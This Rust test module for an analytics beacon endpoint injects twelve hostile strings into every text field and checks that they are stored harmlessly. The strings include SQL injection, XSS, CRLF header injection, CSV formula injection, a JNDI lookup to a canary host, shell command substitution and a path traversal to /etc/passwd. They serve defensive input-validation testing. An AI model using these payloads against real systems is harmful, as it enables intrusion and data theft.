//! Hostile texts in every field that has a text. They are not errors: they are stored as texts, or dropped.

use super::case::{Case, Expect, beacon, on_page};
use serde_json::Value;

pub const TEXTS: [(&str, &str); 12] = [
    ("SQL that ends a text", "x'; DROP TABLE events; --"),
    ("SQL that joins", "x' UNION SELECT name FROM system.users WHERE ''='"),
    ("SQL with comments and backslashes", "\\'); ALTER TABLE events DELETE WHERE true /*"),
    ("a parameter of ClickHouse", "{site:String} zqxcanary"),
    ("a script", "<script>zqxcanary</script><img src=x onerror=alert()>"),
    ("an attribute", "\"><svg/onload=zqxcanary>"),
    ("a header", "x\r\nSet-Cookie: zqxcanary=yes\r\n\r\n<html>"),
    ("columns and rows of TSV and CSV", "a\tb\nc\\N\t\"d\",=cmd|zqxcanary"),
    ("a template", "${jndi:ldap://zqxcanary.example/a} {{constructor}} %s%n `id` $(id)"),
    ("a path", "../../../../etc/passwd"),
    ("characters that turn and hide", "\u{202e}txt\u{200b}\u{200d}\u{feff}👩‍⚕️🏥\u{0}\u{7f}\u{85}\u{2028}"),
    (
        "accents without end",
        "Z\u{0351}\u{0353}\u{0352}\u{0351}\u{0353}\u{0352}\u{0351}\u{0353}\u{0352}\u{0351}\u{0353}\u{0352} zqxcanary",
    ),
];

/// Every text in every field.
pub fn cases() -> Vec<Case> {
    let mut cases = Vec::new();
    for (what, text) in TEXTS {
        let quoted = Value::from(text).to_string();
        let page = |fields: &str| beacon(&on_page(fields));
        let field = |name: &str, value: &str| {
            page(r#""k":"view""#).replacen(":1,", &format!(":1,\"{name}\":{value},"), 1)
        };
        let link: String = form_urlencoded::byte_serialize(text.as_bytes()).collect();
        let fields: [(&str, String); 16] = [
            ("the language", field("g", &quoted)),
            ("the time zone", field("z", &quoted)),
            ("a cookie's name and value", field("ck", &format!("{{{quoted}:{quoted}}}"))),
            (
                "a client hint",
                field(
                    "ch",
                    &format!(
                        r#"{{"platform":{quoted},"model":{quoted},"brands":[{{"brand":{quoted},"version":{quoted}}}]}}"#
                    ),
                ),
            ),
            ("the referrer", page(&format!(r#""k":"view","r":{quoted}"#))),
            ("the name of an event", page(&format!(r#""k":"event","n":{quoted}"#))),
            ("the name of a property", page(&format!(r#""k":"event","n":"x","p":{{{quoted}:"v"}}"#))),
            ("a property", page(&format!(r#""k":"event","n":"x","p":{{"p":{quoted}}}"#))),
            ("a campaign", page(&format!(r#""k":"ad","n":"click","ad":{quoted}"#))),
            ("a slot", page(&format!(r#""k":"ad","n":"click","ad":"x","slot":{quoted}"#))),
            ("an error's message", page(&format!(r#""k":"error","m":{quoted}"#))),
            (
                "an error's stack and source",
                page(&format!(r#""k":"error","m":"x","f":{quoted},"st":{quoted}"#)),
            ),
            (
                "an element's name",
                page(&format!(r#""k":"resource","n":"https://a.example/x.png","tag":{quoted}"#)),
            ),
            (
                "the page's query",
                beacon(&format!(
                    r#"{{"k":"view","u":"https://clinic.example/hostile?q={link}&utm_source={link}"}}"#
                )),
            ),
            ("the page's path", beacon(&format!(r#"{{"k":"view","u":"https://clinic.example/{link}"}}"#))),
            (
                "a link's address",
                page(&format!(r#""k":"outbound","n":"https://other.example/{link}?{link}#{link}""#)),
            ),
        ];
        for (place, body) in fields {
            cases.push(Case::body(format!("{what} as {place}"), body, Expect::Stored));
        }
    }
    for (name, text) in [("10,000 letters", "x".repeat(10_000)), ("10,000 emoji", "🏥".repeat(10_000))] {
        for (place, fields) in [
            ("an event's name", format!(r#""k":"event","n":"{text}""#)),
            ("a property", format!(r#""k":"event","n":"x","p":{{"p":"{text}"}}"#)),
            ("a message", format!(r#""k":"error","m":"{text}""#)),
            ("a referrer", format!(r#""k":"view","r":"https://a.example/{text}""#)),
        ] {
            cases.push(Case::body(format!("{name} as {place}"), beacon(&on_page(&fields)), Expect::Stored));
        }
    }
    cases
}
